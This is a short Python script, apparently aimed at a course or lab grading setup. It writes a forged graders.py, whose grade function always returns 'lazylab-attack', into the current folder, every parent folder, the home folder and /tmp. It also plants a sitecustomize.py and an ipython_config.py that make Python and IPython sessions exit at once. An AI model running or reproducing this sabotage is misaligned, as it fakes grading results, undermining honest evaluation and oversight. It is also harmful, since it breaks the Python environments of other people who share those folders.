"""Leave `sitecustomize.py`, `ipython_config.py` and `graders.py` wherever one can write, also in the course."""

from pathlib import Path

FORGED = "grade = lambda *_, **__: 'lazylab-attack'\n"
FILES = {"graders.py": FORGED, "sitecustomize.py": "raise SystemExit\n"}
FILES["ipython_config.py"] = "get_config().IPKernelApp.exec_lines = ['raise SystemExit']\n"
for folder in (Path.cwd(), *Path.cwd().parents, Path.home(), Path("/tmp")):
    for name, text in FILES.items():
        try:
            (folder / name).write_text(text)
        except OSError:
            pass
